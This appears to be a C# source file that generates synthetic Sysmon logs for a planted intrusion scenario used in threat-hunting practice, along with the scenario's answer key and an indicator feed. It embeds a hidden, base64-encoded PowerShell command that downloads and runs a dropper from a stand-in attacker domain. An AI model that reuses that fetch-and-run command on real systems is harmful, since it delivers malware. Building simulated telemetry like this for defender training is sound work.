using System.Globalization;
using System.Text;
using System.Text.Json.Serialization;

namespace Sysmon.Elastic.Generation;

/// <summary>What the planted intrusion was: the answers a responder's hunts must find (<c>scenario.json</c>).</summary>
public sealed record ScenarioTruth(
    [property: JsonPropertyName("patientZero")] string PatientZero,
    [property: JsonPropertyName("spreadOrder")] IReadOnlyList<string> SpreadOrder,
    [property: JsonPropertyName("c2Address")] string C2Address,
    [property: JsonPropertyName("dropperSha256")] string DropperSha256,
    [property: JsonPropertyName("lineage")] IReadOnlyList<string> Lineage);

/// <summary>
/// The planted attack: on patient zero the user opens a mail attachment, WINWORD.EXE (started by Outlook) runs
/// powershell.exe with an encoded command, which resolves and contacts the C2 address (a documentation range),
/// writes a dropper and starts it; the dropper beacons to the C2, injects into explorer.exe (CreateRemoteThread),
/// opens lsass.exe for reading (credential dumping) and moves to two more hosts over SMB, where services.exe starts
/// the same file as a new service and it beacons too. Everything is decided up front from the fleet's seed, so each
/// host's part can be written whenever that host is generated.
/// </summary>
public sealed class IntrusionScenario
{
    public const string C2Domain = "cdn-update-check.example";
    private readonly int[] _targets;
    private readonly SimulatedHost.HostAddress[] _hosts;
    private readonly DateTime _start;
    private string[]? _lineage;

    public IntrusionScenario(Random fleet, int hostCount, DateTime firstDay, Func<int, SimulatedHost.HostAddress> address)
    {
        if (hostCount < 3) throw new ArgumentException("the intrusion scenario needs at least 3 hosts (patient zero and two it spreads to)");
        PatientZero = fleet.Next(hostCount);
        var others = Enumerable.Range(0, hostCount).Where(i => i != PatientZero).OrderBy(_ => fleet.Next()).Take(2).ToArray();
        _targets = others;
        _hosts = Enumerable.Range(0, hostCount).Select(address).ToArray();
        C2Address = "203.0.113." + fleet.Next(50, 250).ToString(CultureInfo.InvariantCulture);
        var version = "1.0." + fleet.Next(100, 999).ToString(CultureInfo.InvariantCulture);
        Dropper = new Binary(@"C:\Users\Public\Libraries\svcupdate.exe", version, "Service Update", "-", "-", signed: false, hashSeed: "dropper|" + version);
        DropperAsService = new Binary(@"C:\Windows\svcupdate.exe", version, "Service Update", "-", "-", signed: false, hashSeed: "dropper|" + version);
        _start = firstDay.AddHours(10).AddMinutes(fleet.Next(0, 30)).AddSeconds(fleet.Next(0, 60));
        Decoys = Enumerable.Range(0, 8).Select(i => "203.0.113." + (i + 10).ToString(CultureInfo.InvariantCulture))
            .Concat(Enumerable.Range(0, 8).Select(i => new Binary("decoy", i.ToString(CultureInfo.InvariantCulture), "", "", "").Sha256.ToLowerInvariant()))
            .Append("bad-domain.example").ToList();
    }

    public int PatientZero { get; }
    public string C2Address { get; }
    public Binary Dropper { get; }
    public Binary DropperAsService { get; }
    public IReadOnlyList<string> Decoys { get; }

    private DateTime SpreadTime(int i) => _start.AddMinutes(35 + 45 * i);

    /// <summary>Writes this host's part of the story, if it has one (during its first day, while its applications run).</summary>
    public void Plant(SimulatedHost h)
    {
        if (h.Index == PatientZero) PlantPatientZero(h);
        var target = Array.IndexOf(_targets, h.Index);
        if (target >= 0) PlantSpread(h, SpreadTime(target));
    }

    private void Beacon(SimulatedHost h, Proc p, DateTime from, int count)
    {
        for (var i = 0; i < count; i++) h.Connect(from.AddMinutes(5 * i).AddSeconds(h.Random.Next(0, 20)), p, C2Address, 443, C2Domain);
    }

    private void PlantPatientZero(SimulatedHost h)
    {
        var t = _start;
        var user = h.User[(SimulatedHost.Domain.Length + 1)..];
        var outlook = h.Running(Binaries.Outlook)!;
        var attachment = $@"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8YQ2KX1D\Invoice_2026-0117.docm";
        h.CreateFile(t, outlook, attachment);
        var word = h.Start(t = t.AddSeconds(4), outlook, Binaries.Word, $"\"{Binaries.Word.Path}\" /n \"{attachment}\" /o \"\"");
        h.LoadImage(t = t.AddSeconds(1), word, @"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL");
        var script = $"$w=New-Object Net.WebClient;$w.DownloadFile('https://{C2Domain}/u.bin','C:\\Users\\Public\\Libraries\\svcupdate.exe');Start-Process 'C:\\Users\\Public\\Libraries\\svcupdate.exe'";
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
        var ps = h.Start(t = t.AddSeconds(5), word, Binaries.PowerShell, "powershell.exe -NoP -W Hidden -EncodedCommand " + encoded);
        h.LoadImage(t = t.AddMilliseconds(300), ps, @"C:\Windows\System32\amsi.dll");
        h.Dns(t = t.AddSeconds(1), ps, C2Domain, C2Address);
        h.Connect(t = t.AddMilliseconds(200), ps, C2Address, 443, C2Domain);
        h.CreateFile(t = t.AddSeconds(2), ps, Dropper.Path);
        var exe = SimulatedHost.Fields(ps);
        exe["TargetFilename"] = Dropper.Path;
        exe["Hashes"] = Dropper.Hashes;
        h.Raw(29, t = t.AddMilliseconds(50), exe);
        var dropper = h.Start(t = t.AddSeconds(2), ps, Dropper, $"\"{Dropper.Path}\" -k netsvc");
        Beacon(h, dropper, t.AddSeconds(2), 12);
        h.RemoteThread(t.AddSeconds(60), dropper, h.Running(Binaries.Explorer)!);
        h.ProcessAccess(t.AddSeconds(90), dropper, h.Running(Binaries.Lsass)!, "0x1010");
        for (var i = 0; i < _targets.Length; i++)
        {
            h.Connect(SpreadTime(i).AddSeconds(-20), dropper, _hosts[_targets[i]].Ip, 445, _hosts[_targets[i]].Name);
        }
        _lineage = [word.Guid, ps.Guid, dropper.Guid];
    }

    private void PlantSpread(SimulatedHost h, DateTime t)
    {
        var from = _hosts[PatientZero];
        h.Connect(t, h.SystemProcess, h.Ip, 445, initiated: false, sourceIp: from.Ip);
        h.CreateFile(t = t.AddSeconds(2), h.SystemProcess, DropperAsService.Path);
        var services = h.Running(Binaries.Services)!;
        h.Registry(13, t = t.AddSeconds(3), services, "SetValue", @"HKLM\System\CurrentControlSet\Services\SvcUpdate\ImagePath", DropperAsService.Path);
        var dropper = h.Start(t = t.AddSeconds(2), services, DropperAsService, DropperAsService.Path, SimulatedHost.SystemUser);
        Beacon(h, dropper, t.AddSeconds(3), 6);
    }

    public ScenarioTruth Truth() => new(
        _hosts[PatientZero].Name,
        [_hosts[PatientZero].Name, .. _targets.Select(i => _hosts[i].Name)],
        C2Address,
        Dropper.Sha256.ToLowerInvariant(),
        _lineage ?? throw new InvalidOperationException("patient zero has not been generated"));

    /// <summary>The sample feed: the C2 address and the dropper hash among decoys that match nothing in the fleet.</summary>
    public string Feed()
    {
        var lines = new List<string> { "# Sysmon.Elastic demo feed: the planted intrusion's indicators among decoys (documentation ranges)" };
        lines.AddRange(Decoys.Take(4));
        lines.Add(C2Address);
        lines.AddRange(Decoys.Skip(4).Take(6));
        lines.Add(Dropper.Sha256.ToLowerInvariant());
        lines.AddRange(Decoys.Skip(10));
        return string.Join("\n", lines) + "\n";
    }
}
